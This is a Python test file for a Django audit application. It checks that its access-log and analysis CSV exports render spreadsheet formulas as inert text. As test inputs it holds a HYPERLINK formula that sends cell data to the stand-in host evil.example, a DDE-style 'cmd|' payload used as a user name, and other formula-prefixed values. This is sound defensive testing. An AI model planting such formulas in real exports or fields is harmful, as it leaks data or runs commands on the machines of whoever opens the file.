"""Formula injection (issue 16 item 2): the access-log CSV and its analysis never carry a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from madoguchi.accounts.models import OrganisationKind, Role
from madoguchi.audit.services.analysis import analyse_audit_log, report_csv
from madoguchi.core.sheets import is_formula_text
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細")'


def _auditor() -> tuple[Client, object]:
    org = OrganisationFactory(code="audit-fi", kind=OrganisationKind.AUDIT)
    user = UserFactory(username="auditor-fi", role=Role.AUDITOR, organisation=org)
    client = Client()
    client.force_login(user)
    return client, user


def test_failed_login_user_name_is_text_in_the_access_log_csv():
    # given anyone, without logging in, fails a login with a user name that is a formula
    Client().post("/accounts/login/", {"username": ATTACK, "password": "wrong-password"})
    Client().post("/accounts/login/", {"username": "@SUM(1+1)", "password": "wrong-password"})
    # when the auditor downloads the access log as CSV
    client, _ = _auditor()
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    cells = [cell for row in rows for cell in row]
    # then the name is there, quoted as text, and no cell starts a formula
    assert any(ATTACK in cell for cell in cells)
    assert not any(is_formula_text(cell) for cell in cells)


def test_analysis_csv_cells_are_text():
    # given a refused access by a user whose name and the refusal's reason begin with formula characters
    from madoguchi.accounts.context import Actor
    from madoguchi.audit.events import AuditEvent
    from madoguchi.audit.services import record_denied
    odd = UserFactory(username="-1+cmd|' /C calc'!A0", role=Role.DEPARTMENT_STAFF,
                      organisation=OrganisationFactory(code="dept-fi", kind=OrganisationKind.DEPARTMENT))
    record_denied(actor=Actor(user=odd, address="127.0.0.1", channel="test"), action=AuditEvent.ACCESS_DENIED,
                  reason="@SUM(1+1)", target="=1+1", program="prog")
    client, user = _auditor()
    today = timezone.localdate()
    response = client.get(f"/audit/analysis/?date_from={today.replace(day=1)}&date_to={today}&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert any("cmd|" in cell for row in rows for cell in row)
    assert not any(is_formula_text(cell) for row in rows for cell in row)
    report = analyse_audit_log(actor=Actor(user=user, address="127.0.0.1", channel="test"),
                               start=today.replace(day=1), end=today, threshold=None, max_findings=None)
    rows = list(csv.reader(io.StringIO(report_csv(report), newline="")))
    assert not any(is_formula_text(cell) for row in rows for cell in row)


@pytest.fixture(autouse=True)
def _fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
